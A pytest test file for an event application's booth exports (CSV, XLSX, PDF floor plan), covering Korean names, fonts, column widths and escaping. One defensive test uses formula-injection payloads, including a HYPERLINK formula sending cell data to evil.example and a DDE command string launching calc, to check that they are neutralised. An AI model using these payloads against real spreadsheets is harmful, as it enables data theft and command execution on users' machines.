"""Who stands where: CSV, XLSX (read back with openpyxl) and the PDF floor plan
with the exhibitor directory (read back with pdftotext)."""

import csv
import io
import os
import re
import shutil
import subprocess
import zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from sqlalchemy import select

from eventapp.extensions import db
from tests.booths.conftest import add_exhibitor, place


@pytest.fixture
def placed(small_event):
    place(small_event.exhibitors["alpha"], ["A-01", "A-02"], state="confirmed")
    place(small_event.exhibitors["beta"], ["B-03"], state="placed")
    return small_event


def test_csv_export(login_as, placed):
    response = login_as("organizer").get("/e/test-expo/manage/booths/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 20
    by_booth = {r["booth"]: r for r in rows}
    assert by_booth["A-01"]["company_ko"] == "알파로보틱스"
    assert by_booth["A-01"]["company_en"] == "Alpha Robotics"
    assert by_booth["A-01"]["state"] == "confirmed" and by_booth["A-01"]["status"] == "taken"
    assert by_booth["B-03"]["company_en"] == "Beta Bio" and by_booth["B-03"]["state"] == "placed"
    assert by_booth["A-05"]["company_ko"] == "" and by_booth["A-05"]["status"] == "free"
    assert by_booth["A-01"]["corner"] == "yes" and by_booth["A-02"]["corner"] == "no"


def test_xlsx_export(login_as, placed):
    response = login_as("organizer").get("/e/test-expo/manage/booths/export.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.get_data()))
    booths = workbook["Booths"]
    rows = list(booths.iter_rows(values_only=True))
    header = rows[0]
    assert header[:3] == ("booth", "hall", "zone")
    assert len(rows) == 21
    records = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert records["A-02"]["company_ko"] == "알파로보틱스"
    assert records["B-03"]["state"] == "placed"
    companies = list(workbook["Exhibitors"].iter_rows(values_only=True))
    assert companies[0] == (
        "company_ko",
        "company_en",
        "exhibitor_status",
        "booths_rented",
        "booths",
        "held_booths",
        "zones",
    )
    assert ("알파로보틱스", "Alpha Robotics", "confirmed", 2, "A-01 A-02", None, "ai") in companies
    assert ("베타바이오", "Beta Bio", "placed", 1, "B-03", None, "bio") in companies


def test_the_exhibitors_sheet_lists_companies_without_booths_and_their_holds(login_as, small_event):
    """The sheet listed only companies on placed or confirmed booths: one holding its
    pick and the approved ones still without booths, which the organizers chase, were
    missing. Companies not exhibiting (pending, rejected) stay out."""
    place(small_event.exhibitors["alpha"], ["A-01", "A-02"], state="hold")
    gamma, _user = add_exhibitor(small_event.event, "gamma", status="pending")
    response = login_as("organizer").get("/e/test-expo/manage/booths/export.xlsx")
    companies = list(load_workbook(io.BytesIO(response.get_data()))["Exhibitors"].values)
    assert companies[1:] == [
        ("알파로보틱스", "Alpha Robotics", "placed", 2, None, "A-01 A-02", "ai"),
        ("베타바이오", "Beta Bio", "approved", 1, None, None, None),
    ]


def test_xlsx_columns_are_wide_enough_for_korean_names(login_as, placed):
    """Column widths counted characters, but Excel draws a Hangul syllable about two
    widths wide: a Korean company name showed only half of itself, cut off by the
    English name in the next column."""
    organization = placed.exhibitors["alpha"].organization
    organization.name_ko = "한국산업단지공단스마트제조"  # 13 syllables
    db.session.commit()
    response = login_as("organizer").get("/e/test-expo/manage/booths/export.xlsx")
    workbook = load_workbook(io.BytesIO(response.get_data()))
    for sheet in (workbook["Booths"], workbook["Exhibitors"]):
        header = [cell.value for cell in sheet[1]]
        letter = get_column_letter(header.index("company_ko") + 1)
        assert sheet.column_dimensions[letter].width >= 2 * 13, sheet.title
        # Latin text keeps its width: a column is not doubled for nothing.
        letter = get_column_letter(header.index("company_en") + 1)
        assert sheet.column_dimensions[letter].width == len("Alpha Robotics") + 2, sheet.title


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext (poppler-utils) missing")
def test_pdf_floor_plan_with_directory(client, placed, tmp_path):
    response = client.get("/e/test-expo/floorplan.pdf")
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    data = response.get_data()
    assert data.startswith(b"%PDF")
    path = tmp_path / "plan.pdf"
    path.write_bytes(data)
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, check=True, text=True
    ).stdout
    assert "알파로보틱스" in text and "베타바이오" in text
    assert "A-01" in text and "B-10" in text  # booth codes on the drawing
    pages = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True).stdout
    assert re.search(r"^Pages:\s+3$", pages, re.M)  # hall A, hall B, directory


def test_korean_font_helper_falls_back_to_cid_font(tmp_path):
    from eventapp.core.pdf import CID_FALLBACK, register_korean_font

    assert register_korean_font(path=str(tmp_path / "missing.ttf")) == CID_FALLBACK
    name = register_korean_font()
    assert name in ("NanumGothic", CID_FALLBACK)
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    page = canvas.Canvas(out)
    page.setFont(CID_FALLBACK, 12)
    page.drawString(72, 720, "감마그룹")
    page.save()
    assert out.getvalue().startswith(b"%PDF")


def _pixels(ppm):
    """(width, height, rgb bytes) of a binary PPM (P6) image."""
    fields, pos = [], 0
    while len(fields) < 4:
        while ppm[pos : pos + 1].isspace():
            pos += 1
        if ppm[pos : pos + 1] == b"#":
            pos = ppm.index(b"\n", pos)
            continue
        end = pos
        while not ppm[end : end + 1].isspace():
            end += 1
        fields.append(ppm[pos:end])
        pos = end
    assert fields[0] == b"P6" and fields[3] == b"255"
    return int(fields[1]), int(fields[2]), ppm[pos + 1 :]


@pytest.mark.skipif(shutil.which("pdftoppm") is None, reason="pdftoppm (poppler-utils) missing")
def test_pdf_legend_draws_zone_colour_swatches(client, placed, tmp_path):
    """Each zone label of the legend has a swatch of the zone's colour just before it."""
    from eventapp.booths.state import ZONE_COLOURS

    path = tmp_path / "plan.pdf"
    path.write_bytes(client.get("/e/test-expo/floorplan.pdf?lang=en").get_data())
    boxes = subprocess.run(
        ["pdftotext", "-bbox", "-f", "1", "-l", "1", str(path), "-"],
        capture_output=True,
        check=True,
        text=True,
    ).stdout
    words = {
        m.group(5): tuple(float(m.group(i)) for i in range(1, 5))
        for m in re.finditer(
            r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)</word>',
            boxes,
        )
    }
    scale = 2  # 144 dpi: two pixels per point
    subprocess.run(
        [
            "pdftoppm",
            "-r",
            "144",
            "-f",
            "1",
            "-l",
            "1",
            "-singlefile",
            str(path),
            str(tmp_path / "p"),
        ],
        check=True,
    )
    width, _height, rgb = _pixels((tmp_path / "p.ppm").read_bytes())

    def colour_left_of(word):
        x_min, y_min, _x_max, y_max = words[word]
        x, y = int((x_min - 9) * scale), int((y_min + y_max) / 2 * scale)
        offset = 3 * (y * width + x)
        return tuple(rgb[offset : offset + 3])

    for zone, label in (("ai", "AI·digital"), ("bio", "Bio-health")):
        expected = tuple(int(ZONE_COLOURS[zone][i : i + 2], 16) for i in (1, 3, 5))
        found = colour_left_of(label)
        assert all(abs(a - b) <= 24 for a, b in zip(found, expected, strict=True)), (zone, found)
    held = colour_left_of("Held")
    assert all(abs(a - b) <= 24 for a, b in zip(held, (0xFD, 0xE6, 0x8A), strict=True)), held


EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


def test_exports_keep_formula_like_company_names_as_text(login_as, placed):
    """A company name typed as a formula must not run in the organizer's spreadsheet."""
    from eventapp.extensions import db

    alpha = placed.exhibitors["alpha"].organization
    alpha.name_ko = EVIL_NAME
    alpha.name_en = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.commit()
    client = login_as("organizer")

    text = client.get("/e/test-expo/manage/booths/export.csv").get_data().decode("utf-8-sig")
    by_booth = {r["booth"]: r for r in csv.DictReader(io.StringIO(text))}
    assert by_booth["A-01"]["company_ko"] == "'" + EVIL_NAME
    assert by_booth["A-01"]["company_en"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_booth["B-03"]["company_en"] == "Beta Bio"  # ordinary names stay as they are

    data = client.get("/e/test-expo/manage/booths/export.xlsx").get_data()
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook["Booths"]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "A-01")
    cell = row[header.index("company_ko")]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (EVIL_NAME, "s", True)
    companies = workbook["Exhibitors"]
    cell = next(r[0] for r in companies.iter_rows(min_row=2) if r[4].value == "A-01 A-02")
    assert (cell.value, cell.data_type) == (EVIL_NAME, "s")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(name).decode(), name


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext (poppler-utils) missing")
def test_pdf_floor_plan_with_markup_characters_in_names(client, placed, tmp_path):
    """Event and hall names are text, not reportlab markup: "<" and "&" print as typed."""
    from eventapp.events.models import Hall
    from eventapp.extensions import db

    placed.event.name_en = "Expo <2025> & Co"
    hall = db.session.scalar(select(Hall).where(Hall.code == "A"))
    hall.name_en = "Hall <A>"
    db.session.commit()
    response = client.get("/e/test-expo/floorplan.pdf?lang=en")
    assert response.status_code == 200
    path = tmp_path / "plan.pdf"
    path.write_bytes(response.get_data())
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, check=True, text=True
    ).stdout
    assert "Hall <A>" in text
    assert "Expo <2025> & Co" in text
    assert "&lt;" not in text and "&amp;" not in text


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext (poppler-utils) missing")
def test_pdf_floor_plan_prints_letters_nanum_gothic_lacks(client, placed, tmp_path):
    """NanumGothic has no Š, ř or Č: "Škoda Auto" was printed as "koda Auto" on its
    booths and in the directory, the letters left blank."""
    from eventapp.core import pdf as core_pdf
    from eventapp.events.models import Hall

    if not os.path.exists(core_pdf.DEJAVU_SANS):
        pytest.skip("needs DejaVu Sans (apt-get install fonts-dejavu-core)")
    placed.exhibitors["alpha"].organization.name_en = "Škoda Auto"
    placed.booths["A-01"].code = "Č-01"
    db.session.scalar(select(Hall).where(Hall.code == "A")).name_en = "Hala Černá"
    db.session.commit()
    path = tmp_path / "plan.pdf"
    path.write_bytes(client.get("/e/test-expo/floorplan.pdf?lang=en").get_data())

    def text(*pages):
        return subprocess.run(
            ["pdftotext", *pages, str(path), "-"], capture_output=True, check=True, text=True
        ).stdout

    hall_a = text("-f", "1", "-l", "1")
    for expected in ("Hala Černá", "Č-01", "Škoda Auto"):
        assert expected in hall_a, hall_a
    directory = text("-f", "3", "-l", "3")
    assert "Škoda Auto" in directory and "Č-01" in directory, directory


def test_pdf_shortens_long_names_with_the_core_helper(client, placed, monkeypatch):
    """Names too wide for their booth are cut by eventapp.core.pdf.truncate_to_width."""
    import eventapp.core.pdf
    from eventapp.extensions import db

    placed.exhibitors["alpha"].organization.name_en = "Alpha Robotics " * 10
    db.session.commit()
    real = eventapp.core.pdf.truncate_to_width
    calls = []

    def spy(text, font_name, size, max_width, *args, **kwargs):
        calls.append(text)
        return real(text, font_name, size, max_width, *args, **kwargs)

    monkeypatch.setattr(eventapp.core.pdf, "truncate_to_width", spy)
    assert client.get("/e/test-expo/floorplan.pdf?lang=en").status_code == 200
    assert "Alpha Robotics " * 10 in calls


def test_csv_export_keeps_booth_codes_of_digits_as_typed(login_as, placed):
    """A floor plan numbering its booths "0101" lost the leading zero in Excel, which
    reads a CSV cell of digits as a number: the list then named booths nobody knows."""
    from eventapp.booths.models import Booth

    booth = db.session.scalar(select(Booth).where(Booth.code == "A-01"))
    booth.code = "0101"
    db.session.commit()
    text = (
        login_as("organizer")
        .get("/e/test-expo/manage/booths/export.csv")
        .get_data()
        .decode("utf-8-sig")
    )
    codes = [row["booth"] for row in csv.DictReader(io.StringIO(text))]
    assert "'0101" in codes and "0101" not in codes
    assert "A-02" in codes  # other codes stay as they are
